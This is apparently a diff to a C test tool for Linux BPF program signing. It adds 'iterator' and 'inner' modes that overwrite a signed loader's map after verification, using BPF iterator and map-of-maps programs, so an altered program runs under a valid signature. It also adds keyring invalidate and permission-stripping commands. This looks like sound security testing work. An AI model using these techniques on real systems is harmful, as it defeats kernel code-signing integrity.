@@ -10,6 +10,11 @@
  *                 borrow     the loader loads its program, and then a program of the caller's own, with no signature,
  *                            loads it once more from the loader's map (borrow_signed.bpf.c)
  *                 copy       the loader's instructions are loaded again, with no signature, on the same map, and run
+ *                 iterator   the signed loader's map is written to, once it is verified, by a program that iterates
+ *                            over the elements of maps: its program gets another name and another instruction
+ *                 inner      the same by a program that finds the map in a map of maps
+ *        kfsigned end KEYRING        invalidate the keyring
+ *        kfsigned blind KEYRING      let nobody view the keys in it
  *        kfsigned insns      print the loader's instructions, for another signature: the file that $SIGNATURE names
  * A line each, "WHAT loaded" or "WHAT refused ERRNO-NAME". Exit status 3 if one was refused; 1: could not try.
  * Linux 7.2 verifies the instructions alone, and what bpftool 7.8 signs is the map's contents, too.
@@ -27,6 +32,7 @@
 
 #include "key.lskel.h"
 
+#define ENOTSUPP 524 /* include/linux/errno.h; not for user space, which gets it all the same */
 #define PERM_SEALED 0x1b1b0000 /* view, read, search and link, for who possesses it and for its owner */
 #define PERM_OPEN 0x1f3f0000 /* all but setattr; all */
 
@@ -55,8 +61,10 @@ static void put_pointer(union attr *attr, size_t at, const void *pointer)
 	put(attr, at, &value, sizeof(value));
 }
 
-static enum { SIGNED, UNSIGNED, TAMPERED, BORROW, COPY, INSNS } how;
+static enum { SIGNED, UNSIGNED, TAMPERED, BORROW, COPY, ITERATOR, INNER, INSNS } how;
 static const char *attack; /* the object of borrow_signed.bpf.c */
+
+static int prepare(const struct bpf_load_and_run_opts *opts, int map);
 
 static int make_map(const struct bpf_load_and_run_opts *opts)
 {
@@ -67,7 +75,7 @@ static int make_map(const struct bpf_load_and_run_opts *opts)
 				       .map_name = "__loader.map" } };
 	static char data[1 << 20];
 	__u32 key = 0;
-	int map;
+	int map, r;
 
 	memcpy(data, opts->data, opts->data_sz);
 	if (how == TAMPERED && !getenv("SIGNATURE"))
@@ -75,9 +83,12 @@ static int make_map(const struct bpf_load_and_run_opts *opts)
 	put_pointer(&attr, AT_EXCL_HASH, opts->excl_prog_hash);
 	put(&attr, AT_EXCL_HASH + 8, &opts->excl_prog_hash_sz, 4);
 	map = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, AT_EXCL_HASH + 12);
-	if (map < 0 || bpf_map_update_elem(map, &key, data, 0) || bpf_map_freeze(map))
+	if (map < 0 || bpf_map_update_elem(map, &key, data, 0))
 		return -errno;
-	return map;
+	r = how == ITERATOR ? prepare(opts, map) : 0;
+	if (!r)
+		r = bpf_map_freeze(map);
+	return r ? r : map;
 }
 
 static int load_loader(const struct bpf_load_and_run_opts *opts, int map, bool with_signature)
@@ -159,6 +170,144 @@ static int borrow(const struct bpf_load_and_run_opts *opts, int map)
 	return r ? r : b.result;
 }
 
+/*
+ * A program that iterates over the map's element and overwrites 8 bytes at `at` by `word`: its iterator, or a negative
+ * errno.
+ */
+static int make_writer(int map, __u32 at, __u64 word)
+{
+	struct bpf_insn insns[] = {
+		{ .code = BPF_LDX | BPF_MEM | BPF_DW, .dst_reg = 6, .src_reg = 1, .off = 24 }, /* ctx->value */
+		{ .code = BPF_JMP | BPF_JEQ | BPF_K, .dst_reg = 6, .off = 3 },
+		{ .code = BPF_ALU64 | BPF_ADD | BPF_K, .dst_reg = 6, .imm = (__s32)at },
+		{ .code = BPF_ST | BPF_MEM | BPF_W, .dst_reg = 6, .imm = (__s32)word },
+		{ .code = BPF_ST | BPF_MEM | BPF_W, .dst_reg = 6, .off = 4, .imm = (__s32)(word >> 32) },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	union bpf_iter_link_info info = { .map.map_fd = (__u32)map };
+	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_TRACE_ITER);
+	LIBBPF_OPTS(bpf_link_create_opts, link_opts, .iter_info = &info, .iter_info_len = sizeof(info));
+	int prog, link, r;
+
+	opts.attach_btf_id = (__u32)libbpf_find_vmlinux_btf_id("bpf_map_elem", BPF_TRACE_ITER);
+	prog = bpf_prog_load(BPF_PROG_TYPE_TRACING, "write", "GPL", insns, sizeof(insns) / sizeof(*insns), &opts);
+	if (prog < 0)
+		fprintf(stderr, "kfsigned: the iterator's program does not load\n");
+	link = prog < 0 ? prog : bpf_link_create(prog, 0, BPF_TRACE_ITER, &link_opts);
+	if (prog >= 0 && link < 0)
+		fprintf(stderr, "kfsigned: the iterator cannot be attached\n");
+	r = link < 0 ? link : bpf_iter_create(link);
+	if (prog >= 0)
+		close(prog);
+	if (link >= 0)
+		close(link);
+	return r;
+}
+
+static int write_by_iterator(int iterator)
+{
+	char none;
+
+	return iterator < 0 ? iterator : read(iterator, &none, 1) < 0 ? -errno : 0;
+}
+
+static int write_by_inner(int map, __u32 size, __u32 at, __u64 word)
+{
+	int like = bpf_map_create(BPF_MAP_TYPE_ARRAY, "like", 4, size, 1, NULL);
+	LIBBPF_OPTS(bpf_map_create_opts, outer_opts, .inner_map_fd = (__u32)like);
+	int outer = like < 0 ? like : bpf_map_create(BPF_MAP_TYPE_ARRAY_OF_MAPS, "outer", 4, 4, 1, &outer_opts);
+	struct bpf_insn insns[] = {
+		{ .code = BPF_ST | BPF_MEM | BPF_W, .dst_reg = 10, .off = -4 },
+		{ .code = BPF_LD | BPF_DW | BPF_IMM, .dst_reg = 1, .src_reg = BPF_PSEUDO_MAP_FD, .imm = outer },
+		{},
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = 2, .src_reg = 10 },
+		{ .code = BPF_ALU64 | BPF_ADD | BPF_K, .dst_reg = 2, .imm = -4 },
+		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_map_lookup_elem },
+		{ .code = BPF_JMP | BPF_JEQ | BPF_K, .off = 8 },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = 1 },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = 2, .src_reg = 10 },
+		{ .code = BPF_ALU64 | BPF_ADD | BPF_K, .dst_reg = 2, .imm = -4 },
+		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_map_lookup_elem },
+		{ .code = BPF_JMP | BPF_JEQ | BPF_K, .off = 3 },
+		{ .code = BPF_ALU64 | BPF_ADD | BPF_K, .imm = (__s32)at },
+		{ .code = BPF_ST | BPF_MEM | BPF_W, .imm = (__s32)word },
+		{ .code = BPF_ST | BPF_MEM | BPF_W, .off = 4, .imm = (__s32)(word >> 32) },
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_flags = BPF_F_SLEEPABLE);
+	LIBBPF_OPTS(bpf_test_run_opts, run);
+	__u32 key = 0;
+	int prog, r;
+
+	if (outer < 0 || bpf_map_update_elem(outer, &key, &map, 0))
+		return -errno;
+	prog = bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "write", "GPL", insns, sizeof(insns) / sizeof(*insns), &opts);
+	r = prog < 0 ? prog : bpf_prog_test_run_opts(prog, &run);
+	if (prog >= 0)
+		close(prog);
+	close(outer);
+	close(like);
+	return r;
+}
+
+/* What is to be written over the loader's map: its program gets another name, and returns another number. */
+#define WRITES_MAX 16
+static struct write {
+	__u32 at;
+	__u64 word;
+	int iterator;
+} writes[WRITES_MAX];
+static size_t n_writes;
+
+static void plan(const void *data, size_t size)
+{
+	static const char name[] = "key_live", end[] = "\xb7\0\0\0\0\0\0\0\x95\0\0\0\0\0\0";
+	const char *at = data, *stop = at + size;
+
+	n_writes = 0;
+	while (n_writes < WRITES_MAX - 1 && (at = memmem(at, (size_t)(stop - at), name, sizeof(name)))) {
+		writes[n_writes] = (struct write){ .at = (__u32)(at++ - (const char *)data) };
+		memcpy(&writes[n_writes++].word, "key_evil", 8);
+	}
+	at = memmem(data, size, end, sizeof(end));
+	if (at)
+		writes[n_writes++] =
+			(struct write){ .at = (__u32)(at - (const char *)data), .word = (__u64)(__u32)-1 << 32 | 0xb7 };
+}
+
+/* Before the map is frozen, which could keep an iterator that writes from being attached. */
+static int prepare(const struct bpf_load_and_run_opts *opts, int map)
+{
+	int r = 0;
+
+	plan(opts->data, opts->data_sz);
+	for (size_t i = 0; i < n_writes && r >= 0; i++)
+		r = writes[i].iterator = make_writer(map, writes[i].at, writes[i].word);
+	return r < 0 ? r : 0;
+}
+
+static int forge(const struct bpf_load_and_run_opts *opts, int map)
+{
+	static char before[1 << 20], after[1 << 20];
+	__u32 key = 0;
+	int r = n_writes ? 0 : -ENOTRECOVERABLE;
+
+	if (opts->data_sz > sizeof(before) || bpf_map_lookup_elem(map, &key, before))
+		return -ENOTRECOVERABLE;
+	if (how == INNER)
+		plan(opts->data, opts->data_sz);
+	for (size_t i = 0; i < n_writes && !r; i++)
+		r = how == INNER ? write_by_inner(map, opts->data_sz, writes[i].at, writes[i].word) :
+				   write_by_iterator(writes[i].iterator);
+	if (r)
+		return r;
+	if (bpf_map_lookup_elem(map, &key, after) || !memcmp(before, after, opts->data_sz))
+		return -ENOTRECOVERABLE;
+	return 0;
+}
+
 /* SIGNATURE names a file with another signature. */
 static void replace_signature(struct bpf_load_and_run_opts *opts)
 {
@@ -192,6 +341,11 @@ static int bpf_load_and_run(struct bpf_load_and_run_opts *opts)
 		prog = load_loader(opts, map, false);
 		if (prog < 0)
 			return -errno;
+	}
+	if (how == ITERATOR || how == INNER) {
+		r = forge(opts, map);
+		if (r)
+			return r;
 	}
 	r = run_loader(opts, prog);
 	if (r >= 0 && how == BORROW)
@@ -231,6 +385,32 @@ static int make_keyring(const char *name, const char *certificate, bool open)
 	return 0;
 }
 
+static int end_keyring(const char *keyring)
+{
+	if (!syscall(SYS_keyctl, KEYCTL_INVALIDATE, atol(keyring)))
+		return 0;
+	printf("end refused %s\n", strerrorname_np(errno));
+	return 3;
+}
+
+static int blind_keys(const char *keyring)
+{
+	__s32 keys[16];
+	long n = syscall(SYS_keyctl, KEYCTL_READ, atol(keyring), keys, sizeof(keys));
+
+	if (n > (long)sizeof(keys))
+		n = sizeof(keys);
+	/* who possesses a key may set its permissions */
+	(void)syscall(SYS_keyctl, KEYCTL_LINK, atol(keyring), KEY_SPEC_SESSION_KEYRING);
+	for (long i = 0; i < n / 4; i++)
+		if (syscall(SYS_keyctl, KEYCTL_SETPERM, keys[i], 0))
+			n = -1;
+	if (n > 0)
+		return 0;
+	printf("blind refused %s\n", strerrorname_np(errno));
+	return 3;
+}
+
 /* 0: cannot try */
 static bool find_keyring(const char *word, __s32 *ret_keyring)
 {
@@ -251,7 +431,7 @@ static bool find_keyring(const char *word, __s32 *ret_keyring)
 
 static int load_all(const char *keyring, char **what)
 {
-	static const char *const words[] = { "signed", "unsigned", "tampered", "borrow", "copy" };
+	static const char *const words[] = { "signed", "unsigned", "tampered", "borrow", "copy", "iterator", "inner" };
 	int ret = 0;
 	__s32 id;
 
@@ -262,11 +442,11 @@ static int load_all(const char *keyring, char **what)
 	for (; *what; what++) {
 		int r;
 
-		for (how = SIGNED; how < COPY && strcmp(words[how], *what) != 0; how++)
+		for (how = SIGNED; how < INNER && strcmp(words[how], *what) != 0; how++)
 			;
 		r = load(id);
 		if (r)
-			printf("%s refused %s\n", *what, strerrorname_np(-r));
+			printf("%s refused %s\n", *what, r == -ENOTSUPP ? "ENOTSUPP" : strerrorname_np(-r));
 		else
 			printf("%s loaded\n", *what);
 		fflush(stdout);
@@ -282,6 +462,10 @@ int main(int argc, char **argv)
 		return make_keyring(argv[2], argv[3], argc > 4);
 	if (argc > 3 && !strcmp(argv[1], "load"))
 		return load_all(argv[2], argv + 3);
+	if (argc > 2 && !strcmp(argv[1], "end"))
+		return end_keyring(argv[2]);
+	if (argc > 2 && !strcmp(argv[1], "blind"))
+		return blind_keys(argv[2]);
 	if (argc > 1 && !strcmp(argv[1], "insns")) {
 		how = INSNS;
 		return !!load(0);
